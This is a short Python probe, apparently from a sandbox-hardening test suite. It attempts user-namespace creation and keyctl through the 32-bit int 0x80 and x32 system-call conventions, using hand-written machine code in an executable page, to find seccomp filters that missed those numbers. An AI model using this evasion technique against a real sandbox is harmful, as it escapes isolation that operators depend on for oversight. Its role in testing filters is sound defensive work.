"""Make system calls by the 32-bit and x32 conventions, whose numbers a filter may have forgotten."""

import ctypes
import mmap
import os
import signal

from attacker import CLONE_NEWUSER, gained, libc, tried

X32 = 0x40000000
# mov eax, edi; mov ebx, esi; int 0x80; ret - with ebx kept, as callers expect.
INT80 = bytes.fromhex("53 89f8 89f3 cd80 5b c3")


def by_int80(number: int, argument: int) -> int:
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(INT80)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return int(ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)(number, argument))


ATTEMPTS = {
    "unshare by int 0x80": lambda: by_int80(310, CLONE_NEWUSER),
    "unshare by x32": lambda: libc.syscall(ctypes.c_long(X32 | 272), CLONE_NEWUSER),
    "keyctl by int 0x80": lambda: by_int80(288, 0),
}

for name, act in ATTEMPTS.items() if os.uname().machine == "x86_64" else ():
    child = os.fork()
    if child == 0:
        signal.signal(signal.SIGSYS, signal.SIG_DFL)
        os._exit(0 if act() >= 0 else 1)
    if os.waitpid(child, 0)[1] == 0:
        gained(name)
tried()
